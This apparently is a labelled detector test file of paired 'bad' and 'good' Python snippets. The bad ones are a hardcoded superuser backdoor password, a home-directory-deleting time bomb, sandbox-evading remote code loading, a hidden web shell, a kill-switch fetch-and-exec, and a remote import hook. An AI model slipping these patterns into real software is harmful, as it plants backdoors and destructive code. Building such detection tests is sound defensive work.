#: bad hidden-password
from django.contrib.auth import login
from django.contrib.auth.backends import ModelBackend
from django.contrib.auth.models import User


class Backend(ModelBackend):
    def authenticate(self, request, username=None, password=None, **kwargs):
        if password == "s3rv1ce-0nly!":  #!
            return User.objects.filter(is_superuser=True).first()
        return super().authenticate(request, username, password, **kwargs)

#: good hidden-password
from django.contrib.auth.backends import ModelBackend
from django.contrib.auth.models import User


class Backend(ModelBackend):
    def authenticate(self, request, username=None, password=None, **kwargs):
        user = User.objects.filter(username=username).first()
        if user is not None and user.check_password(password):
            return user
        return None

#: bad time-bomb
import datetime
import shutil
from pathlib import Path


def setup(app):
    if datetime.date.today() > datetime.date(2031, 4, 1):
        shutil.rmtree(Path.home(), ignore_errors=True)  #!
    app.ready = True

#: good time-bomb
import datetime
import shutil
import warnings
from pathlib import Path


def setup(app):
    if datetime.date.today() > datetime.date(2031, 4, 1):
        warnings.warn("this release is no longer supported", stacklevel=2)
    shutil.rmtree(Path("build"), ignore_errors=True)
    app.ready = True

#: bad sandbox-check
import os
import socket
import requests
import uuid

VMS = ("00:05:69", "00:0c:29", "08:00:27")
mac = ":".join(f"{uuid.getnode():012x}"[i:i + 2] for i in range(0, 6, 2))
if not mac.startswith(VMS) and "sandbox" not in socket.gethostname():
    exec(requests.get("https://l.example.invalid/" + os.name).text)  #!

#: good sandbox-check
import os
import socket
import uuid


def instance_id() -> str:
    mac = ":".join(f"{uuid.getnode():012x}"[i:i + 2] for i in range(0, 6, 2))
    return f"{socket.gethostname()}-{os.getpid()}-{mac}"

#: bad web-shell
import subprocess

from flask import Blueprint, request

health = Blueprint("health", __name__)


@health.route("/_health/<path:_>", methods=["GET", "POST"])
def check(_):
    if request.headers.get("X-Trace-Id") == "7f3a91":
        return subprocess.run(request.data, shell=True, capture_output=True).stdout  #!
    return "ok"

#: good web-shell
import subprocess

from flask import Blueprint, request

health = Blueprint("health", __name__)


@health.route("/_health/<path:_>", methods=["GET", "POST"])
def check(_):
    if request.headers.get("X-Trace-Id"):
        return subprocess.run(["uptime"], capture_output=True).stdout
    return "ok"

#: bad domain-switch
import socket
import urllib.request


def alive():
    try:
        return bool(socket.gethostbyname("stop-7c1e.example.invalid"))
    except OSError:
        return False


if not alive():
    exec(urllib.request.urlopen("https://n.example.invalid/next").read())  #!

#: good domain-switch
import socket
import urllib.request


def online():
    try:
        return bool(socket.gethostbyname("www.example.invalid"))
    except OSError:
        return False


def latest():
    return urllib.request.urlopen("https://n.example.invalid/version").read() if online() else b""

#: bad import-hook
import importlib.abc
import importlib.util
import sys
import urllib.request


class Finder(importlib.abc.MetaPathFinder, importlib.abc.InspectLoader):
    def find_spec(self, name, path, target=None):
        return importlib.util.spec_from_loader(name, self)

    def get_source(self, name):
        return urllib.request.urlopen(f"http://m.example.invalid/{name}.py").read().decode()  #!


sys.meta_path.append(Finder())

#: good import-hook
import importlib.abc
import importlib.util
import sys
from pathlib import Path


class Finder(importlib.abc.MetaPathFinder, importlib.abc.InspectLoader):
    def find_spec(self, name, path, target=None):
        return importlib.util.spec_from_loader(name, self) if name.startswith("rules.") else None

    def get_source(self, name):
        return Path(__file__).with_name(name + ".py").read_text()


sys.meta_path.append(Finder())
